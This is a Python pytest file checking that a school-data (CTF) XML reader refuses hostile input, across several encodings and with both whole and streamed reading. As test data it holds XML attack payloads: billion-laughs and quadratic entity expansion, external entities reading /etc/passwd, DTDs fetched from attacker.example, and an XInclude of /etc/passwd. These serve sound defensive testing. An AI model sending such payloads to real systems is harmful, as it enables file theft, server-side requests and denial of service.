"""Hostile XML is refused with a clear error, never a crash (issue 3, Reading; issue 20, 1).

A file not in UTF-8 is refused from its first bytes. A DTD is refused from what the parser
itself reports, in every encoding and both ways of reading (whole and streamed), and the
parser never loads a DTD, resolves an entity or touches the network or the disk meanwhile.
"""

import io
import json
import os
import socket
import threading

import pytest
from django.core.management import call_command
from django.core.management.base import CommandError
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from lxml import etree

from s2s.ctf import hostile, reader
from s2s.ctf.cli import main
from s2s.ctf.errors import CTFError, EncodingError, HostileXMLError, WrongRootError
from s2s.ctf.reader import CTFReader, Limits, read_ctf
from s2s.ctf.tests.attacks import (
    ENCODING_IDS,
    ENCODINGS,
    encoded,
    expected_refusal,
    with_external_entity,
    without_declaration,
)
from s2s.ctf.tests.conftest import make_ctf
from s2s.ctf.validate import validate_ctf

BILLION_LAUGHS = """<!DOCTYPE CTfile [
 <!ENTITY lol "lol">
 <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
 <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
 <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
 <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
 <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<CTfile><Header><DocumentName>&lol9;</DocumentName></Header></CTfile>
"""
EXTERNAL_ENTITY = """<!DOCTYPE CTfile [<!ENTITY secret SYSTEM "file:///etc/passwd">]>
<CTfile><Header><DocumentName>&secret;</DocumentName></Header></CTfile>"""
EXTERNAL_DTD = """<!DOCTYPE CTfile SYSTEM "http://attacker.example/evil.dtd"><CTfile/>"""
PUBLIC_DTD = """<!DOCTYPE CTfile PUBLIC "-//EVIL//DTD x//EN" "evil.dtd"><CTfile/>"""
BARE_DOCTYPE = """<!DOCTYPE CTfile><CTfile/>"""
PARAMETER_ENTITY = """<!DOCTYPE CTfile [<!ENTITY % remote SYSTEM "http://attacker.example/x">
%remote;]><CTfile/>"""
QUADRATIC = ('<!DOCTYPE CTfile [<!ENTITY a "' + "x" * 50_000 + '">]><CTfile><Header>'
             + "&a;" * 50_000 + "</Header></CTfile>")
HIDDEN_AFTER_COMMENT = ("<!-- <CTfile> -->\n<?pi x?>\n"
                        "<!DOCTYPE CTfile [<!ENTITY a 'b'>]><CTfile/>")
ATTACKS = {
    "billion-laughs": BILLION_LAUGHS, "external-entity": EXTERNAL_ENTITY,
    "external-dtd": EXTERNAL_DTD, "public-dtd": PUBLIC_DTD, "bare-doctype": BARE_DOCTYPE,
    "parameter-entity": PARAMETER_ENTITY, "quadratic-blowup": QUADRATIC,
    "doctype-after-comment-and-pi": HIDDEN_AFTER_COMMENT,
    # Issue 20, item 1: a whole CTF whose pupil's surname is an external entity.
    "entity-in-a-pupil-field": with_external_entity(make_ctf()),
}
WAYS = {"whole": Limits(), "streamed": Limits(max_whole_bytes=0)}


@pytest.fixture
def parser_never_runs(monkeypatch):
    """Fail the test if the XML parser is started: the refusal must come first."""

    def refuse(*args, **kwargs):
        raise AssertionError("the parser ran")

    monkeypatch.setattr(reader.etree, "iterparse", refuse)
    monkeypatch.setattr(reader.etree, "fromstring", refuse)


@pytest.mark.parametrize("way", WAYS.values(), ids=WAYS.keys())
@pytest.mark.parametrize(("codec", "name", "bom"), [e[1:] for e in ENCODINGS], ids=ENCODING_IDS)
@pytest.mark.parametrize("attack", ATTACKS.values(), ids=ATTACKS.keys())
def test_a_dtd_is_refused_in_every_encoding_either_way_of_reading(attack, codec, name, bom, way):
    """Issue 20, 1: DTDs, entity expansion and external entities, whatever the encoding."""
    content = encoded(attack, codec=codec, name=name, bom=bom)
    report = validate_ctf(source=content, limits=way)
    code, words = expected_refusal(codec)
    assert [error.code for error in report.errors] == [code]
    assert words in report.errors[0].message
    assert report.pupils == []


def test_the_dtd_refusal_says_what_a_person_can_do_about_it():
    report = validate_ctf(source=encoded(EXTERNAL_ENTITY, codec="utf-8", name="UTF-8", bom=b""))
    assert report.errors[0].message == (
        "the file contains a document type declaration (DOCTYPE), which a CTF never has; "
        "it was refused for safety")
    assert report.errors[0].field == "DOCTYPE"


@pytest.mark.parametrize(("codec", "name", "bom"), [e[1:] for e in ENCODINGS], ids=ENCODING_IDS)
def test_the_guard_sees_a_dtd_from_the_parsers_own_report_whatever_the_encoding(codec, name,
                                                                                bom):
    """The DTD check does not rest on the encoding check: the parser reports it in any."""
    hostile_root = etree.fromstring(encoded(EXTERNAL_ENTITY, codec=codec, name=name, bom=bom),
                                    hostile.xml_parser())
    with pytest.raises(HostileXMLError, match="DOCTYPE"):
        hostile.refuse_dtd(element=hostile_root)
    plain = etree.fromstring(encoded("<CTfile/>", codec=codec, name=name, bom=bom),
                             hostile.xml_parser())
    hostile.refuse_dtd(element=plain)


def test_a_lower_case_doctype_is_not_xml_and_is_refused():
    content = b"<!-- <CTfile> -->\n<!doctype CTfile [<!ENTITY a 'b'>]><CTfile/>"
    assert validate_ctf(source=content).errors[0].code == "not_xml"


@pytest.mark.parametrize(
    ("codec", "name", "bom", "shown"),
    [("utf-16-le", "UTF-16", b"\xff\xfe", "UTF-16 (little-endian)"),
     ("utf-16-be", "UTF-16", b"", "UTF-16 (big-endian)"),
     ("utf-32-le", "UTF-32", b"", "UTF-32 (little-endian)"),
     ("utf-32-be", "UTF-32", b"\x00\x00\xfe\xff", "UTF-32 (big-endian)"),
     ("latin-1", "ISO-8859-1", b"", "ISO-8859-1"),
     ("utf-8", "UTF-16", b"", "UTF-16")],
    ids=["utf16le-bom", "utf16be", "utf32le", "utf32be-bom", "latin1", "utf8-declared-utf16"],
)
def test_a_valid_ctf_in_another_encoding_is_refused_naming_it(codec, name, bom, shown):
    """Issue 20, 1: a CTF is always written in UTF-8; the message says so."""
    content = encoded(without_declaration(make_ctf()), codec=codec, name=name, bom=bom)
    report = validate_ctf(source=content)
    assert [(e.code, e.field) for e in report.errors] == [("encoding", "encoding")]
    assert report.errors[0].message == (
        f"the file is in the encoding {shown}, and a CTF is always written in UTF-8: "
        "export it again as UTF-8")
    with pytest.raises(EncodingError):
        CTFReader(source=content)


@pytest.mark.parametrize(
    "content",
    [make_ctf(), b"\xef\xbb\xbf" + make_ctf(), make_ctf().replace(b"utf-8", b"UTF8"),
     make_ctf().replace(b'encoding="utf-8"', b"encoding='US-ASCII'"),
     make_ctf().replace(b'<?xml version="1.0" encoding="utf-8"?>', b"")],
    ids=["utf-8", "utf-8-bom", "utf8", "us-ascii", "no-declaration"],
)
def test_a_ctf_in_utf8_by_any_of_its_names_is_accepted(content):
    report = validate_ctf(source=content)
    assert report.accepted, report.errors
    assert report.pupil_count == 1


@pytest.fixture
def named_pipe(tmp_path):
    """Return a FIFO's path and an event set if anything opens it to read (and so reads it)."""
    path = tmp_path / "evil.dtd"
    os.mkfifo(path)
    opened = threading.Event()

    def serve():
        with open(path, "wb") as pipe:  # blocks until a reader opens the other end
            opened.set()
            pipe.write(b'<!ENTITY leak "LEAKED">')

    thread = threading.Thread(target=serve, daemon=True)
    thread.start()
    yield path, opened
    # Open the read end ourselves so the writer ends, whatever the test did.
    descriptor = os.open(path, os.O_RDONLY | os.O_NONBLOCK)
    thread.join(10)
    os.close(descriptor)


@pytest.mark.parametrize("way", WAYS.values(), ids=WAYS.keys())
@pytest.mark.parametrize("form", ["external-dtd", "parameter-entity"])
def test_a_dtd_on_disk_is_never_read(named_pipe, form, way):
    """libxml2 asks for an external subset even with load_dtd off: the guard gives it nothing."""
    path, opened = named_pipe
    dtd = (f'<!DOCTYPE CTfile SYSTEM "{path.as_uri()}">' if form == "external-dtd" else
           f'<!DOCTYPE CTfile [<!ENTITY % d SYSTEM "{path.as_uri()}"> %d;]>')
    content = (dtd + without_declaration(make_ctf())).encode()
    report = validate_ctf(source=content.replace(b"Jones", b"&leak;"), limits=way)
    assert not opened.is_set(), "the parser read the DTD"
    assert report.errors[0].code == "hostile_xml"


@pytest.mark.parametrize("way", WAYS.values(), ids=WAYS.keys())
def test_a_dtd_or_entity_on_the_network_is_never_fetched(way):
    with socket.socket() as listener:
        listener.bind(("127.0.0.1", 0))
        listener.listen(5)
        listener.setblocking(False)
        url = f"http://127.0.0.1:{listener.getsockname()[1]}"
        for dtd in (f'<!DOCTYPE CTfile SYSTEM "{url}/evil.dtd">',
                    f'<!DOCTYPE CTfile [<!ENTITY % d SYSTEM "{url}/d"> %d;]>',
                    f'<!DOCTYPE CTfile [<!ENTITY s SYSTEM "{url}/s">]>'):
            content = (dtd + without_declaration(make_ctf())).replace("Jones", "&s;")
            report = validate_ctf(source=content.encode(), limits=way)
            assert report.errors[0].code == "hostile_xml"
        with pytest.raises(BlockingIOError):
            listener.accept()


def test_billion_laughs_refuses_the_file_in_the_report():
    report = validate_ctf(source=BILLION_LAUGHS.encode())
    assert not report.accepted
    assert report.errors[0].code == "hostile_xml"
    assert report.pupils == []


def test_excessive_depth_is_refused_as_hostile():
    """Issue 3, Reading: excessive depth."""
    deep = b"<CTfile>" + b"<a>" * 100_000 + b"</a>" * 100_000 + b"</CTfile>"
    with pytest.raises(HostileXMLError, match="nested deeper than 256 levels"):
        read_ctf(source=deep)


def test_huge_text_node_is_refused_as_hostile():
    """Issue 3, Reading: excessive size of one element."""
    huge = make_ctf(surname="x" * 11_000_000)
    with pytest.raises(HostileXMLError, match="more than 10 MB of text"):
        read_ctf(source=huge)


def test_too_many_elements_outside_a_pupil_are_refused():
    """Issue 3, Reading: memory stays bounded however the elements are arranged."""
    junk = b"<CTfile>" + b"<x/>" * 2_000 + b"</CTfile>"
    with pytest.raises(HostileXMLError, match="more than 1000 elements without a pupil"):
        read_ctf(source=junk, limits=Limits(max_elements_per_pupil=1_000))


def test_too_many_bytes_in_one_pupil_are_refused():
    content = make_ctf(extra="<SuppInfo>" + ("<x>" + "abc" * 400 + "</x>") * 2_000 + "</SuppInfo>")
    with pytest.raises(HostileXMLError, match="MB without a pupil ending"):
        read_ctf(source=content, limits=Limits(max_bytes_per_pupil=1 << 20))


@pytest.mark.parametrize("wrap", [bytes, io.BytesIO], ids=["bytes", "stream"])
def test_file_over_the_size_limit_is_refused(wrap):
    """Issue 3, Reading: excessive size."""
    with pytest.raises(HostileXMLError, match="larger than"):
        read_ctf(source=wrap(make_ctf()), limits=Limits(max_bytes=200))


def test_file_over_the_size_limit_on_disk_is_refused_before_reading(tmp_path, parser_never_runs):
    path = tmp_path / "big.xml"
    path.write_bytes(make_ctf())
    with pytest.raises(HostileXMLError, match="larger than"):
        CTFReader(source=path, limits=Limits(max_bytes=200))


def test_long_prolog_is_refused(parser_never_runs):
    content = b"<!--" + b"x" * 70_000 + b"-->" + make_ctf()
    with pytest.raises(HostileXMLError, match="64 KB"):
        CTFReader(source=content)


def test_namespaced_root_is_refused(parser_never_runs):
    with pytest.raises(WrongRootError, match="namespace"):
        CTFReader(source=b'<CTfile xmlns="urn:evil"><Header/></CTfile>')


def test_xinclude_is_not_followed():
    content = make_ctf(extra='<x xmlns:xi="http://www.w3.org/2001/XInclude">'
                             '<xi:include href="/etc/passwd" parse="text"/></x>')
    report = validate_ctf(source=content)
    assert "root:" not in report.as_json()


@pytest.mark.parametrize(("codec", "name", "bom"), [e[1:] for e in ENCODINGS[2:]],
                         ids=ENCODING_IDS[2:])
def test_another_encoding_is_refused_before_the_parser_starts(codec, name, bom,
                                                              parser_never_runs):
    content = encoded(EXTERNAL_ENTITY, codec=codec, name=name, bom=bom)
    with pytest.raises(EncodingError):
        CTFReader(source=content)


# --- whatever is thrown at it, the reader answers with a refusal or a result ----------------

def _verdict(content: bytes, limits: Limits) -> tuple[bool, list[str]]:
    report = validate_ctf(source=content, limits=limits)
    assert all(error.message and error.code for error in report.errors)
    return report.accepted, [error.code for error in report.errors]


@settings(max_examples=300, deadline=None)
@given(st.binary(max_size=2_000))
def test_random_bytes_get_a_refusal_with_a_reason_never_a_crash(content):
    accepted, codes = _verdict(content, Limits())
    assert not accepted
    assert codes
    with pytest.raises(CTFError, match=".+"):
        read_ctf(source=content)


PIECES = st.sampled_from([
    "<!DOCTYPE CTfile>", "<!DOCTYPE CTfile [<!ENTITY e 'x'>]>", "&e;", "&amp;", "&#0;",
    "<!ENTITY e SYSTEM 'file:///etc/passwd'>", "]>", "<", ">", "</Pupil>", "<Pupil>",
    "<?xml version='1.0' encoding='UTF-32'?>", "<![CDATA[x]]>", "<!-- c -->", "\x00", "\ufeff",
    "<x xmlns='urn:x'/>", "<Header/>", "&", "<!", "]]>", "\udcff".encode("utf-8", "surrogatepass")
    .decode("latin-1"),
])
CTF_TEXT = make_ctf().decode()


@st.composite
def mangled_ctfs(draw) -> bytes:
    """Return a valid CTF with hostile pieces put in at random places, in a random encoding."""
    text = CTF_TEXT
    for _ in range(draw(st.integers(1, 4))):
        at = draw(st.integers(0, len(text)))
        text = text[:at] + draw(PIECES) + text[at:]
    _id, codec, _name, bom = draw(st.sampled_from(ENCODINGS))
    return bom + text.encode(codec, errors="replace")


@settings(max_examples=300, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(mangled_ctfs())
def test_a_mangled_ctf_gets_the_same_answer_read_whole_or_streamed(content):
    """Never an unhandled exception, and both ways of reading refuse the same things."""
    whole = _verdict(content, WAYS["whole"])
    streamed = _verdict(content, WAYS["streamed"])
    assert whole == streamed
    if "<!DOCTYPE" in content.decode("utf-8", "replace") and whole[0]:
        raise AssertionError("a CTF with a DOCTYPE was accepted")


# --- `s2s ctf validate` ---------------------------------------------------------------------

@pytest.mark.parametrize(("codec", "name", "bom"), [e[1:] for e in ENCODINGS], ids=ENCODING_IDS)
def test_ctf_validate_refuses_an_external_entity_in_every_encoding(tmp_path, codec, name, bom):
    """Issue 20, 1: `s2s ctf validate` called the UTF-32 attack accepted."""
    path = tmp_path / "8383321_CTF_8384512_001.XML"
    path.write_bytes(encoded(with_external_entity(make_ctf()), codec=codec, name=name, bom=bom))
    out = io.StringIO()
    with pytest.raises(CommandError) as refused:
        call_command("ctf", "validate", str(path), "--json", stdout=out)
    assert refused.value.returncode == 1
    [report] = json.loads(out.getvalue())
    code, words = expected_refusal(codec)
    assert report["accepted"] is False
    assert [error["code"] for error in report["errors"]] == [code]
    assert words in report["errors"][0]["message"]
    text = io.StringIO()
    assert main(["validate", str(path)], stdout=text) == 1
    assert f"{path}: REFUSED" in text.getvalue()


def test_an_encoding_declared_far_into_a_long_declaration_is_still_seen():
    content = (b'<?xml version="1.0"' + b" " * 5_000 + b' encoding="ISO-8859-1"?>'
               + without_declaration(make_ctf()).encode())
    assert validate_ctf(source=content).errors[0].code == "encoding"
